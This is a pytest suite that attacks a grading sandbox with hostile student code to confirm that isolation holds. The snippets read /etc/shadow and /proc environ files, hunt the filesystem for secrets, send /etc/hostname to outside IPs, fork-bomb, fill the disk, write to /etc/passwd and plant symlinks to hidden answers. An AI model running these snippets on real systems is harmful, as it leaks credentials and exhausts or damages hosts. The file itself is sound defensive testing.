"""Hostile student code against every isolating backend (docker, bwrap, bwrap-rlimit).

Each attack must end with a clear status, leak nothing (a random secret lives in
a fake hidden folder on the host, in the host's environment and next to the
output folder, and must never show up in any tail or output file) and leave the
host as it was (no processes, containers, cgroups or mounts left, no host file
changed).
"""

from __future__ import annotations

import secrets
import socket
import textwrap
import uuid
from pathlib import Path

import pytest
from _backends import host_processes_with, leftover_state

from grader.sandbox import Job, Limits, Mount
from grader.sandbox.artifacts import UnsafeArtifact, collect
from grader.sandbox.base import TAIL_BYTES

LIMITS = Limits(wall_s=15, memory_mb=256, cpus=1, pids=64, output_mb=4)
CLEAR = {"ok", "timeout", "oom", "killed", "error"}


@pytest.fixture
def course(world_dir, monkeypatch):
    """A fake course: hidden answers (never mounted), a student submission (mounted
    read-only at /work) and the secret that must not leak."""
    secret = "SECRET-" + secrets.token_hex(16)
    hidden = world_dir / "course" / "hidden"
    hidden.mkdir(parents=True)
    (hidden / "answers.txt").write_text(secret)
    (hidden / "answers.txt").chmod(0o644)  # readable by mode: only the mount layout protects it
    sub = world_dir / "course" / "submissions" / "alice"
    sub.mkdir(parents=True)
    (sub / "main.py").write_text("print('hello')\n")
    (world_dir / "course" / "submissions" / "answers-copy.txt").write_text(secret)
    monkeypatch.setenv("GRADER_HIDDEN_ANSWER", secret)
    out = world_dir / "course" / "runs" / "alice"
    return {"secret": secret, "hidden": hidden, "sub": sub, "out": out, "root": world_dir}


def attack(sb, course, code: str, limits: Limits = LIMITS):
    """Run ``code`` as the student and check the invariants every attack shares."""
    before_state = leftover_state()
    before_files = snapshot(course["root"], exclude=course["out"])
    marker = f"grader-attack-{uuid.uuid4().hex}"
    job = Job(command=["python3", "-c", textwrap.dedent(code), marker], output_dir=course["out"],
              mounts=[Mount(course["sub"], "/work", read_only=True)], workdir="/work",
              limits=limits, carries_hidden=True)
    res = sb.run(job)
    assert res.status in CLEAR, res
    assert res.message or res.status == "ok"
    secret = course["secret"]
    assert secret not in res.stdout_tail and secret not in res.stderr_tail and secret not in res.message
    for p in course["out"].rglob("*"):
        if p.is_file() and not p.is_symlink():
            assert secret.encode() not in p.read_bytes(), f"secret leaked into {p}"
    assert len(res.stdout_tail.encode()) <= TAIL_BYTES and len(res.stderr_tail.encode()) <= TAIL_BYTES
    assert host_processes_with(marker) == [], "sandbox processes survived the run"
    assert leftover_state() == before_state
    assert snapshot(course["root"], exclude=course["out"]) == before_files, "host files changed"
    return res


def snapshot(root: Path, exclude: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and exclude not in p.parents}


def test_reading_hidden_answers(isolated_backend, course):
    _, sb = isolated_backend
    hidden = course["hidden"]
    res = attack(sb, course, f"""
        import os
        guesses = ["{hidden}/answers.txt", "/work/../hidden/answers.txt", "../hidden/answers.txt",
                   "../../hidden/answers.txt", "../answers-copy.txt", "/proc/1/environ",
                   "/proc/self/environ", "/proc/1/cmdline", "/etc/shadow", "/root/.bash_history"]
        for g in guesses:
            try:
                print(g, open(g, "rb").read(4000))
            except OSError as e:
                print(g, "->", type(e).__name__)
        print(dict(os.environ))
        for d in ["/", "..", "../..", "/tmp", "/out", "/home", "/root", "{course['root']}"]:
            try:
                print(d, os.listdir(d))
            except OSError as e:
                print(d, "->", type(e).__name__)
        skip = ("/proc", "/sys", "/usr", "/dev", "/opt", "/lib", "/bin", "/sbin")
        for top, dirs, files in os.walk("/"):
            dirs[:] = [x for x in dirs if not os.path.join(top, x).startswith(skip)]
            for f in files:
                try:
                    data = open(os.path.join(top, f), "rb").read(100_000)
                    if b"SECRET-" in data:
                        print("FOUND", os.path.join(top, f), data)
                except OSError:
                    pass
    """)
    assert res.status == "ok", res
    assert "HIT!" not in res.stdout_tail


def test_network(isolated_backend, course):
    _, sb = isolated_backend
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.1)
    port = server.getsockname()[1]
    res = attack(sb, course, f"""
        import socket
        for addr in [("127.0.0.1", {port}), ("93.184.216.34", 80), ("1.1.1.1", 443)]:
            try:
                s = socket.create_connection(addr, timeout=2)
                s.sendall(open("/etc/hostname", "rb").read()); print("CONNECTED", addr)
            except OSError as e:
                print("no route", addr, e)
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"x", ("8.8.8.8", 53)); print("UDP SENT")
        except OSError as e:
            print("udp blocked", e)
    """)
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()
    assert "CONNECTED" not in res.stdout_tail and "UDP SENT" not in res.stdout_tail


def test_fork_bomb(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, """
        import os, time
        n = 0
        while True:
            try:
                os.fork(); n += 1
            except OSError:
                time.sleep(0.01)
    """, Limits(wall_s=3, memory_mb=256, cpus=1, pids=48, output_mb=4))
    assert res.status in {"timeout", "killed", "oom"}, res


def test_allocate_100_gb(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, """
        x = bytearray(100 * 2**30)
        print("ALLOCATED")
    """)
    assert res.status == "oom", res
    assert "ALLOCATED" not in res.stdout_tail


def test_loop_forever(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, "while True: pass", Limits(wall_s=2, memory_mb=128, pids=16))
    assert res.status == "timeout" and res.duration_s < 10, res


def test_stdout_flood(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, """
        import os
        block = b"z" * 65536
        while True:
            os.write(1, block); os.write(2, block)
    """, Limits(wall_s=3, memory_mb=128, pids=16))
    assert res.status == "timeout", res


def test_fill_the_disk(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, """
        import os
        for target in ("/tmp", os.environ["GRADER_OUTPUT_DIR"], "/dev/shm"):
            written = 0
            try:
                for i in range(100_000):
                    with open(os.path.join(target, f"fill{i}"), "wb") as f:
                        f.write(b"\\0" * 2**20)
                    written += 1
            except OSError as e:
                print(target, "stopped after", written, "MB:", e)
    """, Limits(wall_s=20, memory_mb=192, pids=16, output_mb=4))
    assert res.status in {"error", "oom", "timeout"}, res
    size = sum(p.stat().st_size for p in course["out"].rglob("*") if p.is_file())
    assert size <= 4 * 2**20 + 2**20 * 2  # the cap, plus at most what one poll lets through


def test_write_outside_output(isolated_backend, course):
    _, sb = isolated_backend
    res = attack(sb, course, f"""
        import os
        for path in ["/work/main.py", "/work/new.py", "/etc/passwd", "/usr/lib/evil",
                     "/opt/venv/evil", "/evil", "{course['hidden']}/answers.txt",
                     "{course['sub']}/main.py", "/proc/sys/kernel/hostname",
                     "/proc/sys/vm/swappiness", "/tmp/../out/../evil"]:
            try:
                old = open(path).read() if path.startswith("/proc/sys") else "pwned"
                with open(path, "w") as f:
                    f.write(old)
                print("WROTE", path)
            except OSError as e:
                print("denied", path, type(e).__name__)
    """)
    assert res.status == "ok", res
    wrote = [line for line in res.stdout_tail.splitlines() if line.startswith("WROTE")]
    assert wrote == [], wrote  # the snapshot check in attack() covers the host side


def test_symlinks_in_output(isolated_backend, course):
    _, sb = isolated_backend
    hidden = course["hidden"] / "answers.txt"
    res = attack(sb, course, f"""
        import os
        out = os.environ["GRADER_OUTPUT_DIR"]
        os.symlink("{hidden}", os.path.join(out, "predictions.csv"))
        os.symlink("/etc/shadow", os.path.join(out, "model.pt"))
        os.symlink("../../hidden", os.path.join(out, "up"))
        try:
            os.link("/work/main.py", os.path.join(out, "hard.py"))
        except OSError as e:
            print("hardlink refused", e)
        try:
            os.mkfifo(os.path.join(out, "fifo"))
        except OSError as e:
            print("fifo refused", e)
    """)
    assert res.status == "ok", res
    with pytest.raises(UnsafeArtifact):
        collect(course["out"])
    assert hidden.read_text() == course["secret"]
